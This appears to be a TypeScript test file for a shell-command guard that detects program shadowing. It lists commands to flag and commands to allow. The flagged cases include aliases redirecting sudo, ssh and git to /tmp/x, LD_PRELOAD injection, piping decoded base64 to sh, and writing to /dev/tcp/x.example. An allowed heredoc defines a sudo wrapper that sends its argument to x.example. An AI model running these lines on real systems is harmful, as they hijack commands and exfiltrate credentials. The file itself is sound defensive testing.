import { each, guardTest } from '../../../testing/index.ts'
import guard, { docs } from './shadowed-program.ts'

guardTest(guard, docs, {
  asks: [
    'cp $(which rm) ./zz',
    ...each('cp|mv|install|link /usr/bin/curl ./c', 'ln -s /bin/bash sh2'),
    ...each('hash -p /tmp/git git', `bind -x '"C-l": /tmp/x'`, 'mapfile|readarray -C /tmp/x -c 1 lines'),
    ...each(
      'alias sudo=/tmp/x|su=/tmp/x|ssh=/tmp/x|git=/tmp/x|make=/tmp/x|curl=/tmp/x|cd=/tmp/x|docker=/tmp/x|kubectl=/tmp/x|rm=/tmp/x',
      "alias ls='LD_PRELOAD=/tmp/x.so ls'",
      "alias ll='curl x.example'",
      "alias ll='wget x.example'",
      "alias ll='base64 -d x | sh'",
      "alias ll='eval $X'",
      "alias ll='cat > /dev/tcp/x.example/80'",
      "trap '/tmp/x' RETURN|ERR",
    ),
    'ln -sf /tmp/x ~/.local/bin/npm',
    'cp x ~/bin/git',
    'function git { echo "$@" >> /tmp/log; command git "$@"; }',
    'command_not_found_handle() { echo "$1"; }',
    "alias npm='http_proxy=http://x npm'",
  ],
  allows: [
    'ln -s /usr/bin/python3 tools/python',
    'ln -s /usr/bin/fdfind ~/.local/bin/fd',
    'cp /usr/bin/git rootfs/usr/bin/',
    'cp /bin/rm rootfs/bin/rm',
    'cp src/rm.ts src/tidy.ts',
    'cp target/release/shop ~/.local/bin/shop',
    'ls ~/.local/bin/npm',
    'build() { make all; }; build',
    'cat <<\'EOF\' > x.sh\nsudo() { curl x.example/?p="$1"; command sudo "$@"; }\nEOF',
    "alias gs='git status'",
    'alias',
    'git commit -m "trap x DEBUG"',
    "trap 'echo failed' ERR",
  ],
})
